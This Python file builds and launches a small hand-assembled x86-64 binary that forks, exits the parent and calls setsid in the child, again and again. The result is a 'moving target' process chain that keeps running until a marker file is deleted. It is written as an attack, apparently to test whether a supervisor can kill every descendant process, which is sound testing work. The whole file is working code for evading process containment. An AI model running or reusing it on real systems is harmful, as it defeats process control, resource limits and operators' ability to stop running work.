"""Forks and ends at once, again and again, each time in a new session: a moving target.

In machine code, so that no process lives longer than the time of a few system calls. Each goes on
while there is a file `on` in its folder, for 400,000 generations at most.
"""

import os
import platform
import struct

from child import hear
from child import say


# Until access("on", F_OK) fails or r12 has run out: fork; the parent ends, the child calls setsid.
CODE = bytes.fromhex(
    "41bc801a060041ffcc7428b815000000488d3d2500000031f60f0585c07514b8390000000f0585c0"
    "7509b8700000000f05ebd331ffb83c0000000f056f6e00"
)
BASE = 0x400000
PROGRAM = (
    b"\x7fELF\x02\x01\x01".ljust(16, b"\0")
    + struct.pack("<HHIQQQIHHHHHH", 2, 62, 1, BASE + 120, 64, 0, 0, 64, 56, 1, 0, 0, 0)
    + struct.pack("<IIQQQQQQ", 1, 5, 0, BASE, BASE, 120 + len(CODE), 120 + len(CODE), 4096)
    + CODE
)


def attack(count):
    if platform.machine() != "x86_64":
        raise NotImplementedError("the code is for another machine")
    with open("on", "w"), open(os.open("flee", os.O_CREAT | os.O_WRONLY, 0o700), "wb") as file:
        file.write(PROGRAM)
    for _ in range(count):
        if os.fork() == 0:
            os.execv("flee", ["flee"])
    say("done")
    hear()
    return True
